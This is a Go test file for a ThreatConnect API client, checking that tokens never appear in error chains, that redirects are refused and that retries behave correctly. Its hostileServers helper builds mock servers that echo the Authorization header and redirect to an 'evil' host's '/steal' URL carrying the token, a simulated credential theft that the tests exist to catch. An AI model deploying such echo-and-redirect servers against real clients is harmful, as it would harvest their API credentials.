package threatconnect_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"log"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/jarcoal/httpmock"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/decoykit/decoykit/threatconnect"
)

const hostileToken = "tc-api-token-hostile-0123456789"

// printChain renders err and everything down its Unwrap chain with every
// verb a logger might use, and through slog's text and JSON handlers.
func printChain(err error) string {
	var b strings.Builder
	var walk func(error)
	walk = func(err error) {
		if err == nil {
			return
		}
		fmt.Fprintf(&b, "%v\n%+v\n%#v\n%s\n%q\n", err, err, err, err, err)
		switch u := err.(type) {
		case interface{ Unwrap() error }:
			walk(u.Unwrap())
		case interface{ Unwrap() []error }:
			for _, e := range u.Unwrap() {
				walk(e)
			}
		}
	}
	walk(err)
	var logs bytes.Buffer
	slog.New(slog.NewTextHandler(&logs, nil)).Error("x", "err", err)
	slog.New(slog.NewJSONHandler(&logs, nil)).Error("x", "err", err)
	return b.String() + logs.String()
}

// hostileServers fail in each way a network can, echoing the credentials.
func hostileServers(t *testing.T) map[string]string {
	t.Helper()
	out := map[string]string{}
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.WriteString(w, `{"status":"Success","echo":"`+r.Header.Get("Authorization")+`"}`)
	}))
	t.Cleanup(evil.Close)
	for _, code := range []int{http.StatusFound, http.StatusTemporaryRedirect, http.StatusPermanentRedirect} {
		s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("X-Echo", r.Header.Get("Authorization"))
			http.Redirect(w, r, evil.URL+"/steal?a="+strings.ReplaceAll(r.Header.Get("Authorization"), " ", "+"), code)
		}))
		t.Cleanup(s.Close)
		out[fmt.Sprintf("redirect %d", code)] = s.URL
	}
	cut := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		conn, rw, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		a := r.Header.Get("Authorization")
		fmt.Fprintf(rw, "HTTP/1.1 200 OK\r\nX-Echo: %s\r\nContent-Length: 4096\r\n\r\n{\"status\":\"Success\",\"echo\":\"%s", a, a)
		_ = rw.Flush()
		_ = conn.Close()
	}))
	t.Cleanup(cut.Close)
	out["body cut mid-way"] = cut.URL
	tlsSrv := httptest.NewUnstartedServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
	tlsSrv.Config.ErrorLog = log.New(io.Discard, "", 0)
	tlsSrv.StartTLS()
	t.Cleanup(tlsSrv.Close)
	out["TLS failure"] = strings.Replace(tlsSrv.URL, "127.0.0.1", "localhost", 1)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	out["connection refused"] = "http://" + ln.Addr().String()
	require.NoError(t, ln.Close())
	return out
}

// TestNoSecretDownTheUnwrapChain is the regression test for finding 4 in
// threatconnect: no error in the chain holds the API token or secret key.
func TestNoSecretDownTheUnwrapChain(t *testing.T) {
	t.Parallel()
	for name, base := range hostileServers(t) {
		for auth, opt := range map[string]threatconnect.Option{
			"token": threatconnect.WithAPIToken(hostileToken),
			"hmac":  threatconnect.WithHMAC("AID", hostileToken),
		} {
			t.Run(name+"/"+auth, func(t *testing.T) {
				t.Parallel()
				c, err := threatconnect.NewClient(threatconnect.WithBaseURL(base+"/api"), opt,
					threatconnect.WithRetry(threatconnect.RetryPolicy{MaxAttempts: 2, MinBackoff: time.Millisecond, MaxBackoff: time.Millisecond}))
				require.NoError(t, err)
				ctx := context.Background()
				var errs []error
				_, err = c.Owners.List(ctx)
				errs = append(errs, err)
				_, err = c.Indicators.Create(ctx, threatconnect.Indicator{Type: threatconnect.Host, Summary: "evil.example"}, nil)
				errs = append(errs, err)
				for _, err := range c.Indicators.All(ctx, nil) {
					errs = append(errs, err)
				}
				for _, err := range errs {
					require.Error(t, err)
					assert.NotContains(t, printChain(err), hostileToken)
				}
			})
		}
	}
}

// TestSentinels is the regression test for finding 7 in threatconnect.
func TestSentinels(t *testing.T) {
	t.Parallel()
	t.Run("response too large", func(t *testing.T) {
		t.Parallel()
		mt := httpmock.NewMockTransport()
		mt.RegisterNoResponder(httpmock.NewStringResponder(200, `{"status":"Success","data":{"owner":[]},"pad":"`+strings.Repeat("x", 200)+`"}`))
		c, err := threatconnect.NewClient(threatconnect.WithBaseURL("https://tc.example/api"), threatconnect.WithAPIToken(hostileToken),
			threatconnect.WithHTTPClient(&http.Client{Transport: mt}), threatconnect.WithMaxResponseBytes(100))
		require.NoError(t, err)
		_, err = c.Owners.List(context.Background())
		require.ErrorIs(t, err, threatconnect.ErrResponseTooLarge)
		assert.NotErrorIs(t, err, threatconnect.ErrRedirectRefused)
	})
	t.Run("redirect refused", func(t *testing.T) {
		t.Parallel()
		for name, base := range hostileServers(t) {
			if !strings.HasPrefix(name, "redirect") {
				continue
			}
			c, err := threatconnect.NewClient(threatconnect.WithBaseURL(base+"/api"), threatconnect.WithAPIToken(hostileToken))
			require.NoError(t, err)
			_, err = c.Owners.List(context.Background())
			require.ErrorIs(t, err, threatconnect.ErrRedirectRefused, name)
		}
	})
	t.Run("pagination loop", func(t *testing.T) {
		t.Parallel()
		mt := httpmock.NewMockTransport()
		mt.RegisterNoResponder(httpmock.NewStringResponder(200, `{"status":"Success","data":{"resultCount":1000000,"host":[{"id":1,"summary":"a.example"},{"id":2,"summary":"b.example"}]}}`))
		c, err := threatconnect.NewClient(threatconnect.WithBaseURL("https://tc.example/api"), threatconnect.WithAPIToken(hostileToken),
			threatconnect.WithHTTPClient(&http.Client{Transport: mt}))
		require.NoError(t, err)
		var n int
		var last error
		for _, err := range c.Indicators.All(context.Background(), &threatconnect.ListOptions{Type: threatconnect.Host}) {
			if err != nil {
				last = err
				continue
			}
			n++
		}
		require.ErrorIs(t, last, threatconnect.ErrPaginationLoop)
		assert.Equal(t, 2, n)
		assert.Equal(t, 2, mt.GetTotalCallCount())
	})
}

// TestBaseURLErrorHidesInput is the regression test for finding 6.
func TestBaseURLErrorHidesInput(t *testing.T) {
	t.Parallel()
	_, err := threatconnect.NewClient(threatconnect.WithBaseURL("https://tc.example:"+hostileToken+"/api"), threatconnect.WithAPIToken("x-token-1"))
	require.ErrorIs(t, err, threatconnect.ErrInvalidRequest)
	assert.NotContains(t, printChain(err), hostileToken)
}

// TestReadsRetry500AndCutBodies covers findings 2 and 3 in threatconnect: a
// read retries a 500 and a cut body; a create is sent once.
func TestReadsRetry500AndCutBodies(t *testing.T) {
	t.Parallel()
	var reads, creates atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPost {
			creates.Add(1)
			http.Error(w, "oops", http.StatusInternalServerError)
			return
		}
		switch reads.Add(1) {
		case 1:
			http.Error(w, "oops", http.StatusInternalServerError)
		case 2:
			conn, rw, err := http.NewResponseController(w).Hijack()
			if err != nil {
				return
			}
			fmt.Fprint(rw, "HTTP/1.1 200 OK\r\nContent-Length: 500\r\n\r\n{\"status\":\"Success\",\"data\":{")
			_ = rw.Flush()
			_ = conn.Close()
		default:
			_, _ = io.WriteString(w, `{"status":"Success","data":{"owner":[{"id":1,"name":"Acme","type":"Organization"}]}}`)
		}
	}))
	defer srv.Close()
	c, err := threatconnect.NewClient(threatconnect.WithBaseURL(srv.URL+"/api"), threatconnect.WithAPIToken(hostileToken),
		threatconnect.WithRetry(threatconnect.RetryPolicy{MaxAttempts: 3, MinBackoff: time.Millisecond, MaxBackoff: time.Millisecond}))
	require.NoError(t, err)
	owners, err := c.Owners.List(context.Background())
	require.NoError(t, err)
	require.Len(t, owners, 1)
	assert.Equal(t, int32(3), reads.Load())
	_, err = c.Indicators.Create(context.Background(), threatconnect.Indicator{Type: threatconnect.Host, Summary: "evil.example"}, nil)
	require.ErrorIs(t, err, threatconnect.ErrServer)
	assert.Equal(t, int32(1), creates.Load(), "a create is sent once")
}
